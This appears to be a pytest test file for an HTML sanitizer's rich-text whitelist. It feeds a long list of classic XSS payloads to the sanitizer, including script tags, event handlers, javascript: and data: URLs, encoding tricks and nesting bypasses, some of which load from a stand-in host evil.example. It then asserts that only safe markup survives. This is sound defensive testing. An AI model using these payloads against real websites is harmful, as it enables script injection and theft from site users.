"""The notice rich-text whitelist (COUP.md §7.8) against classic XSS payloads, and what it keeps.

The judge is structural: the output is parsed again and every tag, attribute and URL in it must
be one the whitelist writes. No server is needed.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from coup.sanitize import ALLOWED_TAGS, preview, safe_href, sanitize_html, to_plain_text

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('XSS')\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">click</a>",
    "<a href=\" javascript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"java&#x09;script:alert(1)\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"//evil.example\">protocol-relative</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"color:red\">x</a>",
    "<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"><param name=x value=y></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<template><script>alert(1)</script></template>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script/>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b onmouseover=alert(1)>bold</b>",
    "<h1 id=x onclick=alert(1) class=y>title</h1>",
    "<a href=\"mailto:a@b.example\" onmouseover=\"alert(1)\">mail</a>",
    "<iframe><iframe></iframe><script>alert(1)</script></iframe>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<a href=\"https://ok.example\"><img src=x onerror=alert(1)></a>",
    "<b><i><u>unclosed",
]
# Payloads whose script body must be dropped entirely, not kept as text.
DROPPED_BODY = [p for p in XSS_PAYLOADS
                if re.search(r"<(script|style|iframe|object|template)\b", p, re.I)
                and "<!--" not in p and "CDATA" not in p and "<xmp" not in p
                and "<textarea" not in p and "scr<script" not in p and "<<script" not in p
                and "<noscript" not in p and "title=" not in p]


class _Structure(HTMLParser):
    """Everything markup-like in a string: tags with attributes, comments, declarations."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.other_markup: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other_markup.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other_markup.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other_markup.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other_markup.append(data)


def assert_only_whitelisted_markup(output: str) -> None:
    structure = _Structure()
    structure.feed(output)
    structure.close()
    assert structure.other_markup == []
    for tag, attrs in structure.tags:
        assert tag in ALLOWED_TAGS, (tag, output)
        if tag != "a":
            assert attrs == {}, (tag, output)
            continue
        assert set(attrs) == {"href", "target", "rel"}, output
        assert attrs["target"] == "_blank" and attrs["rel"] == "noopener noreferrer"
        assert re.match(r"(https?|mailto):", attrs["href"] or ""), output
    # No "<" survives as text either: a browser could not find a tag we did not write.
    names = "|".join(sorted(ALLOWED_TAGS))
    text_only = re.sub(rf"</?({names})( [^<>]*)?>", "", output)
    assert "<" not in text_only, output


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_does_not_survive(payload: str) -> None:
    output = sanitize_html(payload)
    assert_only_whitelisted_markup(output)
    # Whatever text survives, no tag we wrote carries a handler, a script URL or a style.
    for tag in re.findall(r"<[^>]*>", output):
        for marker in ("script", " on", "javascript:", "vbscript:", "data:", "expression(",
                       "style", "srcdoc", "src="):
            assert marker not in tag.lower(), (payload, output)
    assert sanitize_html(output) == output  # a fixed point: sanitising again changes nothing


def test_there_are_at_least_thirty_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 30
    assert len(DROPPED_BODY) >= 10


@pytest.mark.parametrize("payload", DROPPED_BODY)
def test_script_like_content_is_dropped_with_its_tag(payload: str) -> None:
    output = sanitize_html(payload)
    assert "alert" not in output and "@import" not in output, output


def test_allowed_markup_is_kept_as_written() -> None:
    allowed = ("<h1>제목</h1><h2>a</h2><h3>b</h3><h4>c</h4><h5>d</h5><h6>e</h6>"
               "<p><b>굵게</b> <i>기울임</i> <u>밑줄</u> <em>강조</em> <strong>강하게</strong>"
               "<br><code>x = 1</code></p><ul><li>하나</li></ul><ol><li>둘</li></ol>"
               "<blockquote>인용</blockquote><pre>  preformatted\n  text</pre>")
    assert sanitize_html(allowed) == allowed


def test_links_keep_only_a_safe_href_and_get_target_and_rel() -> None:
    assert sanitize_html('<a href="https://coup.example/a?b=1&c=2" title="t">go</a>') == (
        '<a href="https://coup.example/a?b=1&amp;c=2" target="_blank" '
        'rel="noopener noreferrer">go</a>')
    assert sanitize_html('<a href="mailto:team@coup.example">mail</a>') == (
        '<a href="mailto:team@coup.example" target="_blank" rel="noopener noreferrer">mail</a>')
    assert sanitize_html('<a href="HTTP://CAPS.example">x</a>').startswith(
        '<a href="HTTP://CAPS.example"')
    assert sanitize_html('<a href="/relative">rel</a>') == "rel"
    assert sanitize_html("<a>bare</a>") == "bare"
    assert sanitize_html('<a href=\'https://x.example/"onmouseover="\'>q</a>') == (
        '<a href="https://x.example/&quot;onmouseover=&quot;" target="_blank" '
        'rel="noopener noreferrer">q</a>')


def test_other_tags_go_but_their_text_stays() -> None:
    assert sanitize_html('<div class="x"><span>안녕</span> <font>하세요</font></div>') == (
        "안녕 하세요")
    assert sanitize_html("<table><tr><td>셀</td></tr></table>") == "셀"


def test_dropped_containers_take_their_content_with_them() -> None:
    for tag in ("script", "style", "iframe", "object", "template"):
        assert sanitize_html(f"앞<{tag}>숨김<b>굵게</b></{tag}>뒤") == "앞뒤"
    assert sanitize_html("앞<embed src=x>뒤") == "앞뒤"
    assert sanitize_html("앞<iframe>끝나지 않음<p>x</p>") == "앞"  # fails closed


def test_comments_and_declarations_are_removed() -> None:
    assert sanitize_html("<!DOCTYPE html>a<!-- secret -->b<?php echo 1 ?>c") == "abc"


def test_markdown_passes_through_as_text() -> None:
    markdown = ("# 제목\n\n> 인용문\n\n- 항목 1\n- 항목 2\n\n**굵게** _기울임_ `code`\n"
                "[링크](https://coup.example) ![그림](x.png)\n\n```py\nprint(1)\n```")
    assert sanitize_html(markdown) == markdown


def test_text_is_escaped_so_it_cannot_become_markup() -> None:
    assert sanitize_html("a < b && c > d") == "a &lt; b &amp;&amp; c > d"
    assert sanitize_html("&lt;b&gt;not bold&lt;/b&gt;") == "&lt;b>not bold&lt;/b>"
    assert sanitize_html("unfinished <b") == "unfinished &lt;b"


def test_misnested_and_unclosed_tags_are_balanced() -> None:
    assert sanitize_html("<b><i>x</b>y</i>") == "<b><i>x</i></b>y"
    assert sanitize_html("<ul><li>a<li>b") == "<ul><li>a<li>b</li></li></ul>"
    assert sanitize_html("</p>stray end") == "stray end"


def test_safe_href_judges_the_scheme_as_a_browser_would() -> None:
    assert safe_href("https://a.example") == "https://a.example"
    assert safe_href("\x01javascript:alert(1)") is None
    assert safe_href("ja\nva\rscript:alert(1)") is None
    assert safe_href("https:\t//a.example") == "https://a.example"
    assert safe_href("") is None and safe_href(None) is None


def test_plain_text_preview() -> None:
    content = sanitize_html("<h1>공지</h1><p>첫 줄<br>둘째 줄 &amp; 더</p><ul><li>a</li></ul>")
    assert to_plain_text(content) == "공지\n첫 줄\n둘째 줄 & 더\na"
    assert preview(content, 5) == ("공지\n첫 ", True)
    assert preview(content, 100) == ("공지\n첫 줄\n둘째 줄 & 더\na", False)
